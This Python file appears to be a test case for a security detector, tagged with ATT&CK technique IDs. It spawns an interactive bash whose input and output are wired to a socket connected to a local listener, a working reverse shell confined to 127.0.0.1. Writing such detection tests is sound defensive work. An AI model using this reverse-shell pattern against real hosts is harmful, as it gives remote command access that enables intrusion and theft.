# technique: T1059.004 T1071.001
"""Unix shell over a reverse connection, subprocess with socket fds (T1059.004).

The "python3 -c 'import socket,subprocess...'" spelling from reverse-shell
cheat sheets: subprocess.Popen(["/bin/bash","-i"], stdin=s.fileno(),
stdout=s.fileno(), stderr=s.fileno()) with no dup2 in the parent. The socket
is created from a socket.create_connection call inside a worker thread.

A good detector raises a critical alert: a shell is started with a connected
socket as its stdin/stdout.
"""
import socket, subprocess, threading

lsn = socket.socket(); lsn.bind(("127.0.0.1", 0)); lsn.listen(1)
port = lsn.getsockname()[1]
def serve():
    try:
        c, _ = lsn.accept(); c.settimeout(4)
        c.sendall(b"uname -a; exit\n")
        while c.recv(4096): pass
    except Exception: pass
threading.Thread(target=serve, daemon=True).start()

def implant():
    try:
        s = socket.create_connection(("127.0.0.1", port), timeout=5)
        p = subprocess.Popen(["/bin/bash", "-i"], stdin=s.fileno(), stdout=s.fileno(),
                             stderr=s.fileno())
        p.wait(timeout=6)
        s.close()
    except Exception:
        pass
w = threading.Thread(target=implant); w.start(); w.join(8)
